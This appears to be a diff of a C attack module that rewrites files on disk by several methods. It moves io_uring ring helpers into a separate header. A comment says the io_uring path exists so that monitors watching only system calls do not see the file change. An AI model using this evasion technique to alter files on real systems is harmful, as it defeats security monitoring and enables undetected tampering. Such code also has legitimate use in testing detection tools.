@@ -15,11 +15,11 @@
 #include <sys/sendfile.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
-#include <sys/syscall.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
 #include "attack.h"
+#include "ring.h"
 
 /* A change of the file at @path into the one at @wanted. 0, NOT_HERE or a negative errno. */
 typedef int change_t(const char *path, const char *wanted);
@@ -168,56 +168,7 @@ static int by_direct_write(const char *path, const char *wanted)
 	return error;
 }
 
-/* --- io_uring: what looks at system calls only does not see it --- */
-
-struct ring {
-	int fd;
-	struct io_uring_sqe *entries;
-	unsigned int *tail, *array;
-	struct io_uring_cqe *done;
-	unsigned int *done_head, *done_tail, done_mask;
-};
-
-static int ring_init(struct ring *ring)
-{
-	struct io_uring_params params = {0};
-	char *queue, *done;
-
-	ring->fd = syscall(SYS_io_uring_setup, 1, &params);
-	if (ring->fd < 0)
-		return -errno;
-	queue = mmap(NULL, CODE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd,
-		     IORING_OFF_SQ_RING);
-	done = mmap(NULL, CODE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd,
-		    IORING_OFF_CQ_RING);
-	ring->entries = mmap(NULL, CODE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd,
-			     IORING_OFF_SQES);
-	if (queue == MAP_FAILED || done == MAP_FAILED || ring->entries == MAP_FAILED)
-		return -errno;
-	ring->tail = (unsigned int *)(queue + params.sq_off.tail);
-	ring->array = (unsigned int *)(queue + params.sq_off.array);
-	ring->done = (struct io_uring_cqe *)(done + params.cq_off.cqes);
-	ring->done_head = (unsigned int *)(done + params.cq_off.head);
-	ring->done_tail = (unsigned int *)(done + params.cq_off.tail);
-	ring->done_mask = params.cq_entries - 1;
-	return 0;
-}
-
-/* Does one thing and waits for it. Its result, as of the system call. */
-static int ring_do(struct ring *ring, const struct io_uring_sqe *entry)
-{
-	int result;
-
-	ring->entries[0] = *entry;
-	ring->array[0] = 0;
-	__atomic_store_n(ring->tail, *ring->tail + 1, __ATOMIC_RELEASE);
-	if (syscall(SYS_io_uring_enter, ring->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
-		return -errno;
-	result = ring->done[*ring->done_head & ring->done_mask].res;
-	__atomic_store_n(ring->done_head, *ring->done_head + 1, __ATOMIC_RELEASE);
-	return result;
-}
-
+/* io_uring: what looks at system calls only does not see it. */
 static int by_io_uring(const char *path, const char *wanted)
 {
 	struct io_uring_sqe entry = {.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD};
